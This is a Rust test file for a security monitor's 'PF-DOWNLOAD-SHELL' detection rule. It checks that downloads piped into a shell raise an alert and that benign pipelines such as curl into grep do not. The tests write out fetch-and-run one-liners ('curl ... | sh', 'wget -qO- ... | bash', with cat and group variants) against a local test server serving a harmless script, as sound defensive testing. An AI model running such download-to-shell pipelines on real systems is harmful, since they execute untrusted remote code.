//! A download piped into a shell, seen by the pipe itself (fd access): the pipelines whose
//! command lines say nothing — run from a script file, typed into an interactive shell —
//! fire, also with a filter or a group between the download and the shell; a download
//! piped into grep (and on into wc), and a local file piped into a shell, do not.

use std::process::{Command, Stdio};

use super::{alerts, download_twins, family, fired_on, observe, scratch_dir, serve_dir, sh_file};
use crate::util::Kids;

#[test]
fn a_download_piped_into_a_shell_from_a_script_or_a_terminal_fires_by_its_pipe() {
    let dir = scratch_dir();
    // Downloads of a second or so (serve_dir holds each body back): a downloader that
    // lives a few ms can end before the collector reads its exec, and the pipe then names
    // no downloader (a polling limit, in the rule's description), which is not what this
    // test is about.
    let padding = format!("# {}\n", "x".repeat(2000));
    std::fs::write(dir.path().join("x.sh"), format!("{padding}sleep 2\n")).expect("payload");
    let (_server, port) = serve_dir(dir.path());
    let url = format!("http://127.0.0.1:{port}/x.sh");
    let script = |name: &str, body: String| sh_file(dir.path(), name, &body);
    let (records, kids) = observe(&[], || {
        let [grep, local] = download_twins(dir.path(), &url);
        let typed = Command::new("script")
            .args([
                "-qc",
                &format!("printf 'curl -fsS --limit-rate 2k {url} | sh\\nexit\\n' | bash -i"),
                "/dev/null",
            ])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .spawn()
            .expect("script");
        Kids(vec![
            script(
                "attack.sh",
                format!("wget -qO- --limit-rate=2k {url} | bash\n"),
            ),
            typed,
            grep,
            local,
            // One step between the download and the shell: a filter, or each side run
            // as a group (whose forked subshells are the pipe's first ends).
            script(
                "filter.sh",
                format!("curl -fsS --limit-rate 2k {url} | cat | sh\n"),
            ),
            script(
                "group.sh",
                format!("{{ curl -fsS --limit-rate 2k {url}; :; }} | {{ :; sh; }}\n"),
            ),
            script(
                "grep2.sh",
                format!("curl -fsS {url} | grep sleep | wc -l; sleep 2\n"),
            ),
        ])
    });
    let all = alerts(&records);
    for (i, what) in [
        (0, "a script's wget | bash"),
        (1, "a typed curl | sh"),
        (4, "curl | cat | sh"),
        (5, "{ curl; :; } | { :; sh; }"),
    ] {
        let attack = family(&[kids.0[i].id()], &records);
        assert!(
            fired_on(&all, "PF-DOWNLOAD-SHELL", &attack),
            "{what}: {all:?}"
        );
        let alerts_here = all
            .iter()
            .filter(|(r, p, _)| r == "PF-DOWNLOAD-SHELL" && p.is_some_and(|p| attack.contains(&p)))
            .count();
        assert_eq!(alerts_here, 1, "{what}: one pipeline, one alert: {all:?}");
    }
    for (i, what) in [(2, "curl | grep"), (3, "cat | sh"), (6, "curl | grep | wc")] {
        let benign = family(&[kids.0[i].id()], &records);
        assert!(
            !fired_on(&all, "PF-DOWNLOAD-SHELL", &benign),
            "{what}: {all:?}"
        );
    }
}
